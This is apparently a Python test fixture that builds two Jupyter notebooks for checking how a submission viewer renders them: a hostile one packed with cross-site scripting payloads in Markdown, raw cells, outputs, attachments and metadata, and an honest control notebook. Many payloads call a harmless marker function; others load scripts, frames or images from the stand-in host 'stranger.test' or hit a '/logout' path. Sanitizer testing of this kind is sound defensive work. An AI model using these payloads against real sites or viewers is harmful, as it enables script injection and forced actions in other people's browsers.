"""A submission that tries to run code in the browser of whoever looks at it, and one that only shows what notebooks show."""

from __future__ import annotations

import base64
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

OUT = "https://stranger.test"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABpfZFQAAAAABJRU5ErkJggg=="
SVG = "<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20' onload=\"ran('NAME')\"><script>ran('NAME')</script></svg>"

# Each HTML attack calls ran(its name), or asks the stranger's server for a path of its name.
HTML = {
    "script": "<script>ran('NAME')</script>",
    "script-nested": "<scr<script>ipt>ran('NAME')</script>",
    "script-from-outside": f"<script src='{OUT}/NAME.js'></script>",
    "img-onerror": "<img src=x onerror=\"ran('NAME')\">",
    "img-outside": f"<img src='{OUT}/NAME.png'>",
    "img-of-the-server": "<img src='/logout?NAME'>",
    "img-srcset": f"<img srcset='{OUT}/NAME.png 2x'>",
    "img-upper-case": "<IMG SRC=x ONERROR=ran('NAME')>",
    "body-onload": "<body onload=\"ran('NAME')\">",
    "details-ontoggle": "<details open ontoggle=\"ran('NAME')\"><summary>s</summary></details>",
    "autofocus": "<input autofocus onfocus=\"ran('NAME')\">",
    "link": "<a href=\"javascript:ran('NAME')\">NAME</a>",
    "link-entities": "<a href=\"java&#x09;script&colon;ran('NAME')\">NAME</a>",
    "link-behind-files": "<a href=\"files/javascript:ran('NAME')\">NAME</a>",
    "link-data": "<a href=\"data:text/html,<script>opener.ran('NAME')</script>\">NAME</a>",
    "link-handed-in": "<a href='evil.html'>NAME</a>",
    "iframe": f"<iframe src='{OUT}/NAME'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>parent.ran('NAME')</script>\"></iframe>",
    "object": f"<object data='{OUT}/NAME'></object><embed src='{OUT}/NAME'>",
    "form": f"<form action='{OUT}/NAME' id='f-NAME'><button autofocus>Next</button></form><script>document.forms[0].submit()</script>",
    "refresh": f"<meta http-equiv='refresh' content='0;url={OUT}/NAME'>",
    "base": f"<base href='{OUT}/NAME/'><img src='x.png'>",
    "link-stylesheet": f"<link rel='stylesheet' href='{OUT}/NAME.css'>",
    "style-import": f"<style>@import url('{OUT}/NAME.css');</style>",
    "style-url": f"<p style=\"background-image: url('{OUT}/NAME.png')\">x</p>",
    "svg": SVG,
    "svg-style": "<svg><style><img src=x onerror=\"ran('NAME')\"></style></svg>",
    "math-mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran('NAME')&gt;\">",
    "noscript-mutation": "<noscript><p title=\"</noscript><img src=x onerror=ran('NAME')>\">",
    "comment": "<!--><img src=x onerror=\"ran('NAME')\">-->",
    "video": f"<video autoplay src='{OUT}/NAME.mp4' poster='{OUT}/NAME.png'></video>",
    "bootstrap": "<a data-toggle='tooltip' data-html='true' data-trigger='hover' title=\"<img src=x onerror=ran('NAME')>\">NAME</a>",
    "overlay": "<div class='navbar-fixed-top' style='position:fixed;top:0;left:0;width:100vw;height:100vh'>NAME</div>",
}
MARKDOWN = {
    "markdown-link": "[NAME](javascript:ran('NAME'))",
    "markdown-link-files": "[NAME](files/javascript:ran('NAME'))",
    "markdown-autolink": "<javascript:ran('NAME')>",
    "markdown-image": f"![NAME]({OUT}/NAME.png)",
    "markdown-mermaid": "```mermaid\ngraph TD; A[<img src=x onerror=\"ran('NAME')\">]\n```",
    "markdown-math": "$\\href{javascript:ran('NAME')}{NAME}$",
    "markdown-title": "![x](attachment:a.png \"' onerror='ran(1)\")",
}
DISPLAYS = {
    "javascript": "{'application/javascript': \"ran('NAME')\"}",
    "isolated": "{'text/html': \"<script>parent.ran('NAME')</script><img src='https://stranger.test/NAME.png'>\"}, metadata={'text/html': {'isolated': True}}",
    "svg-output": f"{{'image/svg+xml': {SVG!r}}}",
    "latex": "{'text/latex': \"$\\\\\\\\href{javascript:ran('NAME')}{NAME}$<img src=x onerror=ran('NAME')>\"}",
    "vega": "{'application/vnd.vegalite.v5+json': {'data': {'url': 'https://stranger.test/NAME.csv'}, 'mark': 'bar'}}",
    "widget": "{'application/vnd.jupyter.widget-view+json': {'model_id': \"</script><script>ran('NAME')</script>\", 'version_major': 2, 'version_minor': 0}, 'text/plain': 'x'}",
    "png-is-none": "{'image/png': \"' onerror='ran(1)\"}",
    "png-metadata": "{'image/png': '"
    + PIXEL
    + "'}, metadata={'image/png': {'alt': \"' onload='ran(1)\", 'width': \"1 onload=ran('NAME')\"}, 'filenames': {'image/png': 'https://stranger.test/NAME.png'}}",
    "plain": "{'text/plain': \"<script>ran('NAME')</script>\"}",
}


def named(text: str, name: str) -> str:
    return text.replace("NAME", name)


def hostile(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The notebook with every attack in Markdown, in a raw cell, in what a cell displays, and in metadata."""
    for name, text in HTML.items():
        nb.cells.append(new_markdown_cell(f"before\n\n{named(text, f'md-{name}')}\n\nafter"))
        nb.cells.append(new_raw_cell(named(text, f"raw-{name}"), metadata={"raw_mimetype": "text/html"}))
    for name, text in MARKDOWN.items():
        attached = {"a.png": {"image/png": PIXEL}} if "attachment:" in text else {}
        nb.cells.append(new_markdown_cell(named(text, name), **({"attachments": attached} if attached else {})))
    shown = [f"display(HTML({named(text, f'html-{name}')!r}))" for name, text in HTML.items()]
    shown += [
        f"display(Markdown({named(text, f'out-{name}')!r}))"
        for name, text in {**HTML, **MARKDOWN}.items()
        if "attachment" not in text
    ]
    shown += [f"display({named(data, name)}, raw=True)" for name, data in DISPLAYS.items()]
    nb.cells.append(new_code_cell("from IPython.display import HTML, Markdown\n" + "\n".join(shown)))
    nb.cells.append(
        new_code_cell(
            "print('<script>ran(\"stdout\")</script>')\nraise ValueError('<img src=x onerror=ran(\"error\")>')"
        )
    )
    evil = base64.b64encode(named(SVG, "attachment").encode()).decode()
    attachments = {"a.svg": {"text/html\" onerror=\"ran('attachment-type')": evil}, "b.svg": {"image/svg+xml": evil}}
    nb.cells.append(new_markdown_cell("![b](attachment:b.svg)", attachments=attachments))
    quote = "\"><script>ran('cell-metadata')</script>"
    nb.cells.append(
        new_code_cell(
            "1", metadata={"tags": [quote.replace(" ", "")], "magics_language": quote, "alt": quote, "name": quote}
        )
    )
    nb.metadata["title"] = "</title><script>ran('title')</script>"
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {},
            "version_major": 2,
            "version_minor": 0,
            "x": "</script><script>ran('widget-state')</script>",
        }
    }
    nb.metadata["language_info"] = {"name": "python", "pygments_lexer": quote}
    return nb


def honest(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The notebook with what people put into notebooks."""
    nb.cells += [
        new_markdown_cell(
            "## A heading\n\n| zone | share |\n|:--|--:|\n| a | 12.5 % |\n\n- [x] done\n- [ ] open\n\n`code` **bold** and $a < b_1$.\n\n```python\nx = 1\n```"
        ),
        new_markdown_cell(
            "[to the heading](#A-heading) and [AWS](https://docs.aws.amazon.com/vpc/), <kbd>Tab</kbd>, H<sub>2</sub>O\n\n<details><summary>More</summary><span>inside</span></details>"
        ),
        new_markdown_cell(
            f"![pixel](data:image/png;base64,{PIXEL}) ![attached](attachment:p.png) ![handed in](plot.png)",
            attachments={"p.png": {"image/png": PIXEL}},
        ),
        new_code_cell("import pandas as pd\npd.DataFrame({'zone': ['a', 'b'], 'share': [12.5, 50.0]})"),
        new_code_cell("%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2]);"),
        new_code_cell("%config InlineBackend.figure_formats = ['svg']\nplt.plot([2, 1]);"),
        new_code_cell(
            "from IPython.display import Latex, HTML, display\ndisplay(Latex(r'$\\frac{1}{8}$'))\nprint('\\x1b[31mred\\x1b[0m')\ndisplay(HTML('<table><tr><td style=\"text-align:right;color:#0072B2\">7</td></tr></table>'))"
        ),
    ]
    return nb


def write(nb: nbformat.NotebookNode, folder: Path, name: str) -> None:
    """Hand it in, with the page and the picture that it points to."""
    folder.mkdir(parents=True)
    nbformat.write(nb, folder / f"{name}.ipynb")
    (folder / "evil.html").write_text("<script>(opener || parent).ran('handed-in')</script>")
    (folder / "plot.png").write_bytes(base64.b64decode(PIXEL))
